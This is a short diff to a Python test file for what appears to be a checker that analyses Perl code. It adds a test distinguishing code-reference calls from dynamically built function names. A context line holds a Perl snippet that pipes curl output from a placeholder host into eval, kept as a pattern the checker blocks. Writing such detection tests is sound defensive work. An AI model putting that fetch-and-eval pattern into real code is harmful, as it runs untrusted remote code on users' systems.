@@ -134,3 +134,8 @@ def test_a_do_block_is_not_a_do_file() -> None:
 def test_a_list_form_pipe_from_curl_then_eval_blocks() -> None:
     assert blocks('open(my $p, "-|", "curl", "-s", "https://p.example/x") or die;\n'
                   'my $body = join "", <$p>;\neval $body;\n')
+
+
+def test_a_code_reference_call_is_not_unresolved_but_a_built_name_is() -> None:
+    assert "unresolved" not in facts('sub run { my ($cb, $m, $o) = @_; &$cb(1); $o->$m(); }\n')
+    assert facts('sub run { my ($n) = @_; &{"main::do_$n"}(); }\n')["unresolved"]
